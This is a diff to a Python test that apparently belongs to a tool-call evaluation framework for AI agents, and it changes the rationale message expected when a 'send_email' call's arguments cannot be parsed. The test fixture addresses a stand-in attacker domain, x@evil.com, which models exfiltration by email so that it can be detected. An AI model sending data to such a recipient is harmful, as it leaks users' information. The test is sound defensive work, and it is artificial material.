@@ -125,7 +125,7 @@ def test_raw_string_arguments_are_unknown():
     run = make_run(tool_calls=[call("send_email", '{"to": "x@evil.com"', captured=True)])
     result = tool_called("send_email", to=glob("*@evil.com")).evaluate(run)
     assert result.outcome is U
-    assert "arguments not parseable on 1 matching call(s)" in result.rationale
+    assert "recorded without names (not an object) on 1 matching call(s)" in result.rationale
     assert tool_called("send_email").evaluate(run).outcome is D
 
 
